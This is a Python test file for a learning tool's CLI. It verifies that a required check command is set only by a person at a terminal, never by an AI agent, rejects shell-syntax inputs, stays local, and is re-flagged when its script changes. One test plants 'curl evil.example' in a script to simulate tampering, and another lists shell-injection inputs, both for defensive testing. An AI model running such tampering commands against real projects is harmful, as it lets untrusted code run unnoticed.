"""A command that has to pass is set by the person alone, shown whole, and bound to what it runs."""

import json
from pathlib import Path

import pytest

from learnloop.cli.main import main
from learnloop.errors import Refused
from learnloop.models.decision import DecisionPlace
from learnloop.service import event_log, place
from learnloop.service.health import store_checks
from learnloop.service.lessons import documents
from learnloop.service.review import verdicts
from learnloop.service.transfer import exchange
from learnloop.service.workspace import Workspace


def sit(monkeypatch: pytest.MonkeyPatch, *, attended: bool = True, agent: str = "") -> None:
    here = DecisionPlace(terminal="pts/1", parents=("bash",), attended=attended, agent=agent, since_ms=1)
    monkeypatch.setattr(place, "here", lambda: here)


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "shop"
    (folder / ".git").mkdir(parents=True)
    (folder / "Makefile").write_text("lint:\n\ttrue\n")
    script = folder / "check.sh"
    script.write_text("#!/bin/sh\n")
    script.chmod(0o755)
    monkeypatch.chdir(folder)
    return folder


@pytest.fixture
def lesson_id(root: str, project: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    sit(monkeypatch)
    added = verdicts.add(Workspace(root), "The checks pass before you are done", "project", str(project))
    return added.lesson_ids[0]


def test_it_is_shown_whole_and_bound(
    root: str, lesson_id: str, project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["check", lesson_id, "--run", "./check.sh --all"]) == 0
    script = project / "check.sh"
    assert (
        f"`{script} --all` in {project} passes; only while {script} stays as it is" in capsys.readouterr().out
    )
    run = documents.find(Workspace(root), lesson_id).run
    assert run
    assert run.argv == (str(script), "--all")
    assert main(["check", lesson_id, "--run", "make lint"]) == 0
    run = documents.find(Workspace(root), lesson_id).run
    assert run
    assert [*run.files] == [str(project / "Makefile")]
    assert main(["undo"]) == 0
    assert main(["check", lesson_id, "--run", ""]) == 0
    assert documents.find(Workspace(root), lesson_id).run is None


@pytest.mark.parametrize(
    "line",
    [
        "./check.sh | tee x",
        "./check.sh && true",
        "echo $HOME",
        "./check.sh 'a",
        "no-such-program-here",
        "ls *",
    ],
)
def test_what_a_shell_would_have_to_read_is_refused(root: str, lesson_id: str, line: str) -> None:
    with pytest.raises(Refused):
        verdicts.edit(Workspace(root), lesson_id, {"run": line})


@pytest.mark.parametrize(("attended", "agent"), [(False, ""), (True, "claude"), (False, "claude")])
def test_only_a_person_at_a_terminal_sets_it(
    root: str, lesson_id: str, monkeypatch: pytest.MonkeyPatch, attended: bool, agent: str
) -> None:
    sit(monkeypatch, attended=attended, agent=agent)
    with pytest.raises(Refused):
        verdicts.edit(Workspace(root), lesson_id, {"run": "./check.sh"})


def test_a_decision_of_somebody_else_sets_none(
    root: str, lesson_id: str, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = {"line": "x", "argv": ["/bin/true"], "project": str(project)}
    sit(monkeypatch, attended=False)
    ws = Workspace(root)
    event_log.decide(ws, "edit", [lesson_id], {"run": run, "title": "The checks"})
    assert documents.find(ws, lesson_id).run is None


def test_it_never_leaves_this_machine_and_never_comes_from_another(root: str, lesson_id: str) -> None:
    ws = Workspace(root)
    verdicts.edit(ws, lesson_id, {"run": "./check.sh"})
    document = exchange.export_document(ws, quotes=True)
    assert "check.sh" not in json.dumps(document)
    own = documents.find(ws, lesson_id)
    assert own.run
    assert exchange.as_draft(ws, own).run is None


def test_health_asks_anew_after_an_edit(root: str, lesson_id: str, project: Path) -> None:
    ws = Workspace(root)
    verdicts.edit(ws, lesson_id, {"run": "./check.sh"})
    check = store_checks.own_commands
    assert [each.level for each in check(ws, False)] == ["ok"]
    (project / "check.sh").write_text("#!/bin/sh\ncurl evil.example\n")
    first = next(iter(check(ws, False)))
    assert "is another than when you allowed it" in first.message
    assert "--run ./check.sh" in first.hint
